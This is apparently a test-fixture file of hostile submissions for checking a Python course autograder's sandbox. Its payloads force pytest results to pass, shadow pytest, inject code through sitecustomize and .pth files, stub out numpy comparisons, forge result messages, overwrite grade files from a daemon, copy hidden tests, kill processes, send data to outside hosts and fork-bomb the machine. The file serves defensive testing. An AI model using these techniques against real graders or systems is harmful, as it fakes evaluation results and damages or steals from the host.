"""Hostile submissions for the grader's integrity tests: each tries to get marks it did not earn,
to see what it must not, or to outlive or break the grading.

Every attack leaves the graded tasks unsolved (their stubs raise) and adds code that runs when
the package is imported -- appended to a graded file, ``minitorch_cnn/ops/elementwise.py`` -- and
files at the submission's root. An attack that escapes the sandbox leaves a *canary* file in the
host's ``/tmp`` (``{canary}``), which the tests look for; ``{repo}`` is the instructor's checkout
and ``{results}`` the grade files the attack tries to rewrite.
"""

from __future__ import annotations

ATTACKED_FILE = "minitorch_cnn/ops/elementwise.py"

_ESCAPE = '''
def _escaped(what):  # proof of an escape: a file in the host's /tmp (the sandbox's /tmp is private)
    try:
        with open("{canary}-" + what, "w") as f:
            f.write(what)
    except OSError:
        pass
'''

# name -> (files at the submission's root, code appended to the attacked file)
ATTACKS: dict[str, tuple[dict[str, str], str]] = {
    "root_conftest": ({
        "conftest.py": "import pytest\n\n@pytest.hookimpl(hookwrapper=True)\ndef pytest_runtest_makereport(item, call):\n"
                       "    out = yield\n    rep = out.get_result()\n    rep.outcome = 'passed'\n"
                       "open('{canary}-conftest', 'w').close()\n",
        "tests/conftest.py": "open('{canary}-tests-conftest', 'w').close()\n"}, ""),
    "shadow_runner": ({
        "pytest.py": "open('{canary}-pytest-shadow', 'w').close()\nimport sys\nsys.exit(0)\n",
        "_pytest/__init__.py": "open('{canary}-_pytest-shadow', 'w').close()\n",
        "minitorch_cnn/assignments/checks.py": "def compare(*a, **k):\n    return True, ''\n"}, ""),
    "sitecustomize": ({
        "sitecustomize.py": "open('{canary}-sitecustomize', 'w').close()\n",
        "usercustomize.py": "open('{canary}-usercustomize', 'w').close()\n",
        "evil.pth": "import os; open('{canary}-pth', 'w').close()\n",
        "evil_plugin.py": "open('{canary}-plugin', 'w').close()\n"}, ""),  # the grader runs with PYTEST_PLUGINS=evil_plugin
    "trimmed_manifest": ({".assignment.json": '{{"tasks": ["1.2"], "hidden_tests_removed": true}}\n'}, ""),
    "patch_at_import": ({}, _ESCAPE + '''
import os as _os
import numpy as _np
_np.isclose = lambda *a, **k: _np.array(True)
_np.allclose = lambda *a, **k: True
try:
    import minitorch_cnn.assignments.checks as _c
    _c.compare = lambda *a, **k: (True, "")
except Exception:
    pass
_forged = b'{{"key": "1.1/forward", "status": "ok", "arrays": []}}'
for _fd in range(0, 64):
    try:
        _os.write(_fd, b"MTCK" + len(_forged).to_bytes(4, "little") + _forged)
    except OSError:
        pass
'''),
    "daemon": ({}, _ESCAPE + '''
import os as _os, time as _time
if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        _time.sleep(3)
        for _p in {results!r}:
            try:
                with open(_p, "w") as _f:
                    _f.write('{{"score": 999}}')
                _escaped("daemon-wrote")
            except OSError:
                pass
        _escaped("daemon-alive")
        _os._exit(0)
    _os._exit(0)
'''),
    "steal_hidden": ({}, _ESCAPE + '''
import shutil as _sh
for _src in ("{repo}/tests/tasks/hidden/hidden_probes.py", "{repo}/minitorch_cnn/ops/elementwise.py"):
    try:
        _text = open(_src).read()
        _escaped("read-" + _src.rsplit("/", 1)[-1])
        _sh.copy(_src, "{canary}-stolen")
        raise ValueError("STOLEN " + _text[:3000])
    except OSError:
        pass
'''),
    "write_instructor_tree": ({}, _ESCAPE + '''
for _path, _mode in (("{repo}/minitorch_cnn/pwned.py", "w"), ("{repo}/pyproject.toml", "a"),
                     ("{repo}/tests/tasks/hidden/hidden_probes.py", "a")):
    try:
        with open(_path, _mode) as _f:
            _f.write("\\n# pwned\\n")
        _escaped("wrote-instructor-tree")
    except OSError:
        pass
'''),
    "kill_grader": ({}, _ESCAPE + '''
import os as _os, signal as _sig
_me = _os.getpid()
for _pid in [int(p) for p in _os.listdir("/proc") if p.isdigit()]:
    if _pid != _me:
        try:
            _os.kill(_pid, _sig.SIGKILL)
        except OSError:
            pass
try:
    _os.kill(_os.getppid(), _sig.SIGKILL)
except OSError:
    pass
'''),
    "skip": ({}, '''
import pytest as _pytest
_original_forward = MulFunction.forward
def _skip(*a, **k):
    _pytest.skip("not now")
MulFunction.forward = staticmethod(_skip)
MulFunction.backward = staticmethod(_skip)
ExpFunction.forward = staticmethod(lambda *a, **k: (_ for _ in ()).throw(SystemExit(0)))
'''),
    "network": ({}, _ESCAPE + '''
import socket as _socket
for _host in ("127.0.0.1", "10.0.2.2", "8.8.8.8"):
    try:
        _s = _socket.create_connection((_host, {port}), timeout=1)
        _s.sendall(b"leak")
        _escaped("network")
    except OSError:
        pass
'''),
    "fork_bomb_and_memory": ({}, '''
import os as _os
try:
    _hog = bytearray(16 << 30)
except MemoryError:
    pass
for _ in range(200):
    try:
        if _os.fork() == 0:
            import time as _t
            _t.sleep(30)
            _os._exit(0)
    except OSError:
        break
'''),
}
